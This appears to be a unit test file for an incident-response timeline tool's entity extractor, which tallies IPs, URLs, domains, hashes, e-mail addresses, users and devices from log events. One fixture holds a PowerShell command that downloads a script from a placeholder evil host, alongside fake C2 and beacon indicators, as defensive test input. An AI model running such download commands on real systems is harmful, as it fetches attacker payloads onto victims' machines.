import { describe, expect, it } from 'vitest';
import { seededRandom } from '../../../tests/unit/support/seeded-random';
import type { TimelineEvent } from '../../../shared/domain/timeline';
import { RunBuilder } from '../timeline/run-builder';
import { AttributesJsonWriter, eventToRow } from '../timeline/event-row';
import { entityId } from './entity-keys';
import { entityTallyColumns, noTallies, scanRunEntities, tallyStrings, TallyBook, type EntityTallies, type EntityTally } from './run-entities';

const event = (time: number, message: string, attributes: Record<string, string> = {}): TimelineEvent => ({
  time,
  timestampDesc: '',
  message,
  source: 'test.csv',
  host: '',
  user: '',
  tags: [],
  attributes,
});

function runOf(events: TimelineEvent[]) {
  const builder = new RunBuilder(events.length);
  for (const e of events) builder.add(eventToRow(e));
  return builder.raw();
}

/** Tallies as the import thread reads them from their columns. */
function talliesOf(columns: EntityTallies): EntityTally[] {
  const strings = tallyStrings(columns);
  return Array.from({ length: columns.numbers.length / 3 }, (_, i): EntityTally => [
    strings[4 * i]!,
    strings[4 * i + 1]!,
    columns.numbers[3 * i]!,
    columns.numbers[3 * i + 1]!,
    columns.numbers[3 * i + 2]!,
    strings[4 * i + 2]!,
    strings[4 * i + 3]!,
  ]);
}

const entriesOf = (book: TallyBook) => talliesOf(book.columns());

const byValue = (book: TallyBook) =>
  Object.fromEntries(entriesOf(book).map(([type, value, first, last, count]) => [`${type} ${value}`, { first, last, count }]));

describe('scanRunEntities', () => {
  // The e-mail pattern tried every word boundary of "a.a.a…" as a start and ran to its end: 20 s for a 120 KB message.
  it('scans a 1 MB message of "a.a.a…" in a run that holds an "@" in linear time', () => {
    const book = new TallyBook();
    scanRunEntities(runOf([event(1, 'a.'.repeat(500_000)), event(2, 'mail to bob@corp.example')]), book);
    expect(Object.keys(byValue(book))).toEqual(['emailAddress bob@corp.example', 'domain corp.example']);
  }, 30_000);

  it('tallies each entity once with its first and last time and how often it was seen, across runs', () => {
    const book = new TallyBook();
    scanRunEntities(runOf([event(30, 'from 10.0.0.1'), event(10, 'from 10.0.0.1 again')]), book);
    scanRunEntities(runOf([event(50, 'x', { SourceIp: '10.0.0.1' })]), book);
    expect(byValue(book)['ip 10.0.0.1']).toEqual({ first: 10, last: 50, count: 3 });
  });

  it('finds hashes, URLs with their domains, e-mail addresses and named attributes; skips placeholders', () => {
    const book = new TallyBook();
    const sha1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
    scanRunEntities(
      runOf([
        event(1, `wrote ${sha1} and 127.0.0.1 and 0000000000000000000000000000000000000000`),
        event(2, 'GET https://evil.example.com/x.php, mail to bob@corp.example'),
        event(3, 'ok', { Image: 'C:\\Windows\\System32\\cmd.exe', TargetFilename: 'n/a', Hashes: `SHA1=${sha1}` }),
      ]),
      book,
    );
    expect(Object.keys(byValue(book)).sort()).toEqual([
      'domain corp.example',
      'domain evil.example.com',
      'emailAddress bob@corp.example',
      `hash ${sha1}`,
      'process C:\\Windows\\System32\\cmd.exe',
      'url https://evil.example.com/x.php',
    ]);
    expect(byValue(book)[`hash ${sha1}`]!.count).toBe(2);
  });

  it('reads every attribute, not only the message: addresses, URLs, e-mail, hashes anywhere; paths, domains, users and machines where the name says', () => {
    const book = new TallyBook();
    const sha256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
    scanRunEntities(
      runOf([
        event(7, 'Process Create', {
          CommandLine: 'powershell -c iwr https://dl.evil.example/a.ps1 -OutFile C:\\Temp\\a.ps1',
          Details: 'beacon to 198.51.100.23:443 and fe80::1c2b:3d4e:5f60:7a8b, report to ops@corp.example',
          Hashes: `SHA256=${sha256}`,
          QueryName: 'c2.evil.example',
          ImageLoaded: 'C:\\Temp\\evil.dll',
          TargetUserName: 'svc_backup',
          WorkstationName: 'WKS-7',
          EventRecordID: '18446744073709551615',
          // Defender's device id is 40 hex digits, like a SHA-1, but its name says it is an id.
          DeviceId: '73e7e2de709dff64ef64b1d0c30e67fab63279db',
        }),
      ]),
      book,
    );
    expect(byValue(book)).toEqual({
      'url https://dl.evil.example/a.ps1': { first: 7, last: 7, count: 1 },
      'domain dl.evil.example': { first: 7, last: 7, count: 1 },
      'ip 198.51.100.23': { first: 7, last: 7, count: 1 },
      'ip fe80::1c2b:3d4e:5f60:7a8b': { first: 7, last: 7, count: 1 },
      'emailAddress ops@corp.example': { first: 7, last: 7, count: 1 },
      'domain corp.example': { first: 7, last: 7, count: 1 },
      [`hash ${sha256}`]: { first: 7, last: 7, count: 1 },
      'domain c2.evil.example': { first: 7, last: 7, count: 1 },
      'filePath C:\\Temp\\evil.dll': { first: 7, last: 7, count: 1 },
      'user svc_backup': { first: 7, last: 7, count: 1 },
      'device WKS-7': { first: 7, last: 7, count: 1 },
    });
  });

  it('hands over each address with its canonical text as value and key, and its entity id', () => {
    const book = new TallyBook();
    const addresses = ['0.0.0.1', '10.0.0.1', '192.168.100.254', '255.255.255.255', '8.8.8.8'];
    scanRunEntities(runOf(addresses.map((a, i) => event(i, `from ${a}`))), book);
    expect(entriesOf(book).sort()).toEqual(addresses.map((a, i): EntityTally => ['ip', a, i, i, 1, a, entityId('ip', a)]).sort());
  });

  it('keeps every distinct value, past the 100,000 it used to stop at', () => {
    const book = new TallyBook();
    const distinct = 150_000;
    const events = Array.from({ length: distinct }, (_, i) => event(i, `peer 10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`));
    scanRunEntities(runOf(events), book);
    expect(entriesOf(book)).toHaveLength(distinct);
  });
});

describe('attributes of tabular rows', () => {
  const names = ['SourceIp', 'source_ip', 'IPADDRESS', 'Image', 'TargetFilename', 'Hashes', 'url', 'Email', 'domain', 'note', 'data_type', 'we"ird', 'ip'];
  const values = [
    '',
    '10.0.0.1',
    '010.0.0.1',
    '256.1.1.1',
    '1.2.3',
    '1.2.3.4.5',
    '::ffff:10.1.2.3',
    'fe80::1',
    'n/a',
    'C:\\Windows\\System32\\cmd.exe',
    '/usr/bin/curl',
    'SHA1=da39a3ee5e6b4b0d3255bfef95601890afd80709,MD5=d41d8cd98f00b204e9800998ecf8427e',
    'https://evil.example.com/a?b="c"',
    'bob@corp.example',
    'corp.example',
    'Zoë\\😀\\x.exe',
    'line\nbreak\t"quoted"',
    '\u0001\u007f\ud800 lone',
  ];

  it('give the same entities read where they are as found by searching their JSON text', () => {
    const next = seededRandom(11).next;
    let found = 0;
    for (let trial = 0; trial < 20; trial++) {
      const columns = Array.from({ length: 1 + Math.floor(next() * 6) }, (_, i) => [names[Math.floor(next() * names.length)]!, i] as const);
      const writer = new AttributesJsonWriter(columns);
      const builder = new RunBuilder(300);
      for (let e = 0; e < 300; e++) {
        const fields = columns.map(() => {
          const v = values[Math.floor(next() * values.length)]!;
          return next() < 0.3 ? `${Math.floor(next() * 256)}.${Math.floor(next() * 256)}.0.${Math.floor(next() * 300)}` : v;
        });
        builder.add({ ...eventToRow(event(Math.floor(next() * 1000), 'x')), attributesJson: { writer, fields } });
      }
      const raw = builder.raw();
      expect(raw.attrSpans).not.toBeNull();
      const bySpans = entriesOf(scanRunEntities(raw)).sort();
      const byText = entriesOf(scanRunEntities({ ...raw, attrSpans: null })).sort();
      expect(bySpans).toEqual(byText);
      found += bySpans.length;
    }
    expect(found).toBeGreaterThan(200);
  });

  it('give the same entities stored as segments of their CSV text as written as JSON', () => {
    const next = seededRandom(5).next;
    // Quote-free values (a record with a quote is never stored as a segment), without lone surrogates (decoded text has none).
    const plain = values.filter((v) => !/[",\n\r\ud800-\udfff]/.test(v)).concat(['C:\\Windows\\x.exe', 'Zoë\\😀.exe']);
    let found = 0;
    for (let trial = 0; trial < 20; trial++) {
      const columns = Array.from(
        { length: 1 + Math.floor(next() * 5) },
        (_, i) => [names.filter((n) => !n.includes('"'))[Math.floor(next() * 12)]!, i + 1] as const,
      );
      const writer = new AttributesJsonWriter(columns);
      const asSegments = new RunBuilder(300);
      const asJson = new RunBuilder(300);
      for (let e = 0; e < 300; e++) {
        const fields = ['message', ...columns.map(() => (next() < 0.3 ? `10.${Math.floor(next() * 300)}.0.1` : plain[Math.floor(next() * plain.length)]!))];
        const row = eventToRow(event(Math.floor(next() * 1000), 'x'));
        asSegments.add({ ...row, attributesJson: { writer, fields, line: fields.join(',') } });
        asJson.add({ ...row, attributesJson: { writer, fields } });
      }
      expect(asSegments.raw().attrSegment).not.toBeNull();
      const bySegments = entriesOf(scanRunEntities(asSegments.raw())).sort();
      expect(bySegments).toEqual(entriesOf(scanRunEntities(asJson.raw())).sort());
      found += bySegments.length;
    }
    expect(found).toBeGreaterThan(200);
  });

  it('are searched as text when a run also holds attributes given as JSON text', () => {
    const writer = new AttributesJsonWriter([['SourceIp', 0]]);
    const builder = new RunBuilder(4);
    builder.add({ ...eventToRow(event(1, 'x')), attributesJson: { writer, fields: ['10.0.0.1'] } });
    expect(builder.raw().attrSpans).toHaveLength(4);
    builder.add(eventToRow(event(2, 'x', { Image: 'C:\\x.exe' })));
    builder.add(eventToRow(event(3, 'x')));
    const raw = builder.raw();
    expect(raw.attrSpans).toBeNull();
    expect(Object.keys(byValue(scanRunEntities(raw))).sort()).toEqual(['ip 10.0.0.1', 'process C:\\x.exe']);
  });
});

describe('entity tally columns', () => {
  it('carry every tally across threads and back unchanged: strings of any length and script, and the numbers', () => {
    const tallies: EntityTally[] = [
      ['ip', '10.0.0.1', 1, 2, 3, '10.0.0.1', 'ent-a'],
      ['filePath', 'C:\\Users\\Zoë\\😀.exe', -5, 1.7e15, 1, 'c:\\users\\zoë\\😀.exe', 'ent-b'],
      ['domain', '', 0, 0, 0, '', ''],
    ];
    const columns = entityTallyColumns(tallies);
    expect(talliesOf(structuredClone(columns))).toEqual(tallies);
    expect(tallyStrings(noTallies())).toEqual([]);
  });
});
